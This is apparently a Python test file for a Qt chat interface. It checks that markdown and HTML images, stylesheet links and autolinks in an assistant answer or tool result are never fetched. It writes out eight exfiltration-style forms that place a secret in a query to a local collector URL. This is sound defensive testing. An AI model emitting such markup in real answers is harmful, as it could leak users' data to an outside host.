"""An answer shows nothing from the web by itself: a picture's address could carry data out (T-7)."""

from __future__ import annotations

import re
from pathlib import Path
from urllib.request import urlopen

from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication

import studio.ui
from studio.domain.events import TextDelta, ToolFinished, ToolQueued, TurnComplete
from support.injection_cases import SECRET, Listener
from support.transcript_window import TranscriptWindow, shown
from support.waiting import HANG

__all__ = ["shown"]


def test_pictures_in_an_answer_are_not_loaded(shown: TranscriptWindow, qapp: QApplication) -> None:
    listener = Listener()
    try:
        url = f"{listener.url}/collect?d={SECRET}"
        forms = [
            f"![ok]({url})",
            f"[![ok]({url})](https://example.com)",
            f"![ok][1]\n\n[1]: {url}",
            f'<img src="{url}">',
            f"<link rel='stylesheet' href='{url}'>",
            f"| a |\n|---|\n| ![x]({url}) |",
            f"- ![x]({url})",
            f"<{url}>",
        ]
        shown.ask(f"Show ![x]({url})")
        shown.tell(ToolQueued("c", "visit", {"url": url}, url, "fetch", "Reading", "Read"))
        shown.tell(ToolFinished("c", "\n".join(forms), False, 0.1, "1 page", (url,)))
        shown.tell(TextDelta("\n\n".join(forms)), TurnComplete("done"))
        shown.view.grab()
        QTest.qWait(50)
        qapp.processEvents()
        with urlopen(f"{listener.url}/after", timeout=HANG) as answer:
            answer.read()
        asked = [line for line in listener.heard if line.startswith(("GET", "HEAD", "POST"))]
        assert asked == ["GET /after HTTP/1.1\r\n"]
    finally:
        listener.close()


def test_the_window_has_nothing_that_loads_pages() -> None:
    """No widget of Qt's that fetches by itself, and no network of its own."""
    loads = re.compile(r"QtNetwork|QtWebEngine|QTextBrowser|QtQuick|QtMultimedia|QNetwork")
    files = Path(studio.ui.__file__).parent.rglob("*.py")
    assert [file.name for file in files if loads.search(file.read_text(encoding="utf-8"))] == []
